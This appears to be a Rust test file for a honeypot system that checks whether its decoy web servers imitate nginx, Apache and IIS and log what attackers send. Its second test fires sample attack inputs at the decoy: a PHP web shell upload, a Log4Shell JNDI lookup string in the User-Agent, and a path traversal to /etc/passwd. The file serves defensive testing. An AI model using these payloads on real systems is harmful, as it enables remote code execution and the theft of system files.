//! curl against deckies: each answers as its own server does, and what was asked and typed is
//! recorded.

use decnet::logic::event::{Event, Kind, Outcome, RawDigest};
use decnet::logic::persona;
use decnet::logic::status::DeckyStatus;
use decnet_tests::world::World;

/// A decky of each persona.
fn fleet() -> String {
    let decky = |id: &str| {
        let name = id.replace('.', "-");
        format!("[[decky]]\nname = \"{name}\"\npersona = \"{id}\"\nservices = [\"http\"]\n")
    };
    let all: String = persona::ALL.iter().map(|persona| decky(persona.id)).collect();
    format!("[network]\nsubnet6 = \"fd77::/64\"\n{all}")
}

/// The value of a header in what `curl -i` printed.
fn header<'a>(answer: &'a str, name: &str) -> Option<&'a str> {
    let head = answer.split("\r\n\r\n").next()?;
    head.lines().find_map(|line| line.strip_prefix(name)?.strip_prefix(": "))
}

fn curl(world: &World, args: &[&str]) -> String {
    world.client("curl").args(&["-sS", "-m60"]).args(args).good()
}

#[test]
fn every_persona_answers_as_its_own_server_does() {
    let world = World::make();
    let agent = world.agent(&fleet());
    for decky in agent.status().expect("the agent answers").deckies {
        assert_answers(&world, &decky);
    }
    let over_ip6 = |event: &Event| {
        event.event == Kind::HttpRequest
            && event.src.as_ref().and_then(|src| src.ip) == "fd77::7".parse().ok()
    };
    let event = world.event("a request over IPv6", over_ip6);
    assert!(event.data.text("user_agent").is_some_and(|agent| agent.starts_with("curl/")));
}

/// Shows that a decky answers as its persona's server does.
fn assert_answers(world: &World, decky: &DeckyStatus) {
    let persona = persona::find(&decky.persona).expect("it is one");
    let missing = match persona.http {
        nginx if nginx.starts_with("nginx") => format!("<hr><center>{nginx}</center>"),
        apache if apache.starts_with("Apache") => {
            format!("<address>{apache} Server at {} Port 80</address>", decky.ip)
        }
        iis if iis.starts_with("Microsoft") => "404 - File or directory not found.".to_owned(),
        _ => "<h1>404 Not Found</h1>".to_owned(),
    };
    let ip6 = decky.ip6.expect("the network has IPv6");
    for host in [decky.ip.to_string(), format!("[{ip6}]")] {
        let url = format!("http://{host}/");
        let front = curl(world, &["-gi", &url]);
        assert!(front.starts_with("HTTP/1.1 200 OK\r\n"), "{url}: {front}");
        assert_eq!(header(&front, "Server"), Some(persona.http), "{url}");
        assert!(front.contains("<form"), "{url}: {front}");
        let head = curl(world, &["-gI", &url]);
        assert_eq!(header(&head, "Content-Length"), header(&front, "Content-Length"), "{url}");
        let nothing = curl(world, &["-gi", &format!("{url}nothing/here")]);
        assert!(nothing.starts_with("HTTP/1.1 404 Not Found\r\n"), "{url}: {nothing}");
        let wanted = missing.replace(&decky.ip.to_string(), &host);
        assert!(nothing.contains(&wanted), "{url}: {nothing}");
    }
    let old = curl(world, &["-0i", &format!("http://{}/", decky.ip)]);
    assert!(old.contains(" 200 OK\r\n"), "{}: {old}", decky.name);
    // Two requests on one connection.
    let url = format!("http://{}/", decky.ip);
    let twice = ["-o/dev/null", "-o/dev/null", "-w%{num_connects} ", &url, &url];
    assert_eq!(curl(world, &twice), "1 0 ", "{}", decky.name);
}

fn is_login(event: &Event, via: &str) -> bool {
    event.event == Kind::AuthAttempt && event.data.text("via") == Some(via)
}

#[test]
fn what_is_asked_and_typed_is_recorded() {
    let world = World::make();
    let agent = world.agent("[[decky]]\nname = \"web-01\"\nservices = [\"http\"]\n");
    let url = format!("http://{}", agent.decky("web-01").ip);
    let at = |path: &str| format!("{url}{path}");
    // A form, a query, a header.
    let form = ["-i", "-d", "username=admin&password=p%40ss+w0rd%5D", &at("/login")];
    assert!(!curl(&world, &form).contains("Location"), "nobody is let in");
    curl(&world, &["-u", "tomcat:s3cret", &at("/admin/")]);
    let denied = curl(&world, &["-i", &at("/admin/")]);
    assert!(denied.starts_with("HTTP/1.1 401 "), "{denied}");
    assert_eq!(header(&denied, "WWW-Authenticate"), Some("Basic realm=\"Restricted\""));
    for (via, user, password) in [("form", "admin", "p@ss w0rd]"), ("basic", "tomcat", "s3cret")] {
        let event = world.event(via, |event| is_login(event, via));
        let creds = event.creds.expect("a login has them");
        assert_eq!(creds.user.as_deref(), Some(user));
        assert_eq!(creds.password.as_deref(), Some(password));
        assert_eq!(event.outcome, Some(Outcome::Failure));
    }
    // An upload in chunks, of no length that is told before.
    let sent = b"<?php system($_GET['c']); ?>\n".repeat(2_000);
    let upload = ["-i", "-T", "-", &at("/shell.php")];
    world.client("curl").args(&["-sS", "-m60"]).args(&upload).input(sent.clone()).good();
    let mut digest = RawDigest::default();
    digest.update(&sent);
    let wanted = digest.finish();
    let event = world.event_of(Kind::FileUpload);
    assert_eq!(event.data.text("name"), Some("/shell.php"));
    assert_eq!(event.raw.map(|raw| (raw.sha256, raw.len)), Some((wanted.sha256, wanted.len)));
    // As browsers send files.
    std::fs::write(world.dir.join("sent"), b"a file").expect("the directory is ours");
    curl(&world, &["-F", "password=letmein", "-F", "file=@sent;filename=x.jsp", &at("/upload")]);
    world.event("the form's file", |event| {
        event.event == Kind::FileUpload && event.data.text("name") == Some("x.jsp")
    });
    world.event("the form's login", |event| is_login(event, "multipart"));
    // What was asked is kept as it was asked.
    curl(&world, &["--path-as-is", "-A", "${jndi:ldap://x/a}", &at("/../../etc/passwd")]);
    let event =
        world.event("the request", |event| event.data.text("target") == Some("/../../etc/passwd"));
    assert_eq!(event.data.text("user_agent"), Some("${jndi:ldap://x/a}"));
    assert_eq!(event.data.text("method"), Some("GET"));
    assert_eq!(event.data.number("status"), Some(400), "as nginx does");
}
